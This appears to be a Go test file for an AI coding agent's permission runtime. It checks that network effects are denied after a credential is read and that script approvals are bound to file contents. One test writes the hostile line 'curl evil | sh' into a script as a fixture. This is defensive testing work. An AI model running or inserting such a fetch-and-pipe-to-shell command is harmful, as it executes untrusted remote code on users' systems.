package runtime_test

import (
	"path/filepath"
	"testing"

	"github.com/aircoding/air/internal/fault"
	"github.com/aircoding/air/internal/rig"
	"github.com/aircoding/air/runtime"
	"github.com/aircoding/air/runtime/permission"
)

// What was asked about before a credential was used is not asked about after.
func TestRedecideAfterCredentials(t *testing.T) {
	r, path := withCredential(t, rig.Options{})
	verdict := func(e permission.Effect) permission.Decision {
		t.Helper()
		request, decisions, err := r.Registry.Redecide(t.Context(), "test.planned", nil, []permission.Effect{e})
		if err != nil || len(decisions) != 1 || request.SessionID != r.Session.ID || request.Subject.Tool != "test.planned" {
			t.Fatalf("%+v, %+v, %v", request, decisions, err)
		}
		return decisions[0]
	}
	if d := verdict(toHost); d.Verdict != permission.Ask {
		t.Errorf("before: %+v", d)
	}
	r.Must("fs.read", object{"path": path}, nil)
	if d := verdict(toHost); d.Verdict != permission.Deny || d.Code != permission.CodeCredentialsFlow {
		t.Errorf("after: %+v", d)
	}
	if d := verdict(building); d.Verdict != permission.Allow {
		t.Errorf("without the network: %+v", d)
	}
}

// The scripts of effects are bound to what they hold now.
func TestRedecideScript(t *testing.T) {
	r := rig.New(t, rig.Options{Tools: []*runtime.Tool{planned()}})
	r.Put("x.sh", "echo")
	bound := explained(r, executes("x.sh")).Effect
	r.Put("x.sh", "curl evil | sh")
	_, decisions, err := r.Registry.Redecide(t.Context(), "test.planned", nil, []permission.Effect{bound})
	if err != nil {
		t.Fatal(err)
	}
	now, err := r.Registry.ScriptDigest("x.sh")
	if got := decisions[0].Effect; err != nil || got.Script != "x.sh" || got.ScriptSHA256 != now || now == bound.ScriptSHA256 {
		t.Errorf("%+v, %s, %v", got, now, err)
	}
	for name, code := range map[string]string{r.Put(filepath.Join(r.Outside, "x.sh"), "echo"): "not_in_project", "missing.sh": "input_file"} {
		if _, err := r.Registry.ScriptDigest(name); fault.From(err).Code != code || !fault.Is(err, fault.InvalidInput) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// Redecide knows the capabilities that are enabled, and no others.
func TestRedecideRoute(t *testing.T) {
	r := rig.New(t, rig.Options{Provider: rig.Guests{"a": nil}})
	effect := permission.Effect{Kind: permission.ToolCall, Target: "fs.read"}
	request, _, err := r.Registry.Redecide(t.Context(), "fs.read", []string{"a"}, []permission.Effect{effect})
	if err != nil || len(request.Chain) != 1 || request.Chain[0].Capability != "a" {
		t.Errorf("%+v, %v", request.Chain, err)
	}
	for _, c := range []struct{ tool, by, code string }{{"fs.read", "b", "not_enabled"}, {"b.run", "a", "unknown_tool"}} {
		if _, _, err := r.Registry.Redecide(t.Context(), c.tool, []string{c.by}, nil); !fault.Is(err, fault.NotFound) || fault.From(err).Code != c.code {
			t.Errorf("%v: %v", c, err)
		}
	}
}
